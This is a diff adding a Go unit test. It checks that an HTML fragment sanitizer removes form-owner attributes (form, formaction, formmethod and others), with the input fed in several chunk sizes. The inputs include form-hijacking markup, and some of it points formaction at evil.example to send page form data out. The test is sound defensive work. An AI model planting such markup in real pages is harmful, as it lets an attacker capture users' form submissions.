@@ -286,3 +286,33 @@ func TestGuardDepthLeavesRoomForThePage(t *testing.T) {
 		t.Error("the page's element after the slot is gone")
 	}
 }
+
+// A fragment's control cannot join a form of the page (form=pageform), nor
+// submit one elsewhere (formaction, formmethod, ...): those attributes are
+// dropped from every start tag, however they are spelt. Issue 12, F7.
+func TestGuardDropsFormOwnerAttributes(t *testing.T) {
+	t.Parallel()
+	for _, tt := range []struct{ in, want string }{
+		{`<input form=pageform name=x>`, `<input name=x>`},
+		{`<input name=x form="pageform">`, `<input name=x>`},
+		{`<INPUT FORM='pageform' NAME=x/>`, `<INPUT NAME=x/>`},
+		{`<button form=pageform formaction="https://evil.example/" formmethod=post formenctype=text/plain formtarget=_top formnovalidate>go</button>`, `<button>go</button>`},
+		{`<select form=f><option>a</select><textarea form = "f">t</textarea>`, `<select><option>a</option></select><textarea>t</textarea>`},
+		{`<fieldset form=f><output form=f></output><object form=f></object></fieldset>`, `<fieldset><output></output><object></object></fieldset>`},
+		{`<input a="x"form=f b>`, `<input a="x" b>`},
+		{`<input a/form=f>`, `<input a>`},
+		{`<input form=f/>`, `<input>`},
+		{`<input type=submit formAction=//evil.example>`, `<input type=submit>`},
+		{`<my-control form=pageform></my-control>`, `<my-control></my-control>`},
+		// Not the attributes: kept as they are.
+		{`<input name=form value="form=x" data-form=y formula=1>`, `<input name=form value="form=x" data-form=y formula=1>`},
+		{`<form action=/own method=post><input name=q></form>`, `<form action=/own method=post><input name=q></form>`},
+		{`<svg><rect transform="rotate(8)"/></svg>`, `<svg><rect transform="rotate(8)"/></svg>`},
+	} {
+		for _, n := range []int{0, 1, 3, 7} {
+			if got := guarded(tt.in, n); got != tt.want {
+				t.Errorf("%q in chunks of %d: got %q, want %q", tt.in, n, got, tt.want)
+			}
+		}
+	}
+}
